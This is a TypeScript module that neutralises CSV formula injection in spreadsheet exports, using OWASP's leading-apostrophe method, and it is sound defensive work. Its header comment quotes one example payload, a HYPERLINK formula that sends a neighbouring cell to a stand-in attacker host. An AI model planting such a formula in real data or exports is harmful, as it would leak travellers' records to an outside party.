import Papa from 'papaparse';

/**
 * CSV files the product writes for spreadsheets, made inert. A spreadsheet runs a cell that starts
 * like a formula (=, +, -, @, or a tab or carriage return, which some readers drop before looking):
 * a traveler who books as `=HYPERLINK("http://evil.example/?"&A2,"Open")` would have the office's
 * spreadsheet send the row next to it away. Such a text gets a leading apostrophe, which spreadsheets
 * show as text and do not display (OWASP's advice); numbers, and texts that are a plain number
 * ("-12.50"), stay as they are, since they run nothing. Every export goes through toCsv.
 */
const formulaStart = /^[=+\-@\t\r]/;
const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

export type CsvValue = string | number | boolean | null | undefined;

/** One cell as written: inert text, or the number itself. */
export function inertCell(value: CsvValue): string | number {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? value : '';
  const text = String(value);
  return formulaStart.test(text) && !plainNumber.test(text) ? `'${text}` : text;
}

/** A cell of a file this product wrote, as it was before inertCell (for files read back in). */
export function cellText(value: string): string {
  return value.startsWith("'") && formulaStart.test(value.slice(1)) && !plainNumber.test(value.slice(1)) ? value.slice(1) : value;
}

/** A header row and data rows as CSV, every cell inert. */
export function toCsv(fields: readonly string[], rows: readonly (readonly CsvValue[])[], newline = '\r\n'): string {
  return Papa.unparse({ fields: fields.map((field) => String(inertCell(field))), data: rows.map((row) => row.map(inertCell)) }, { newline });
}
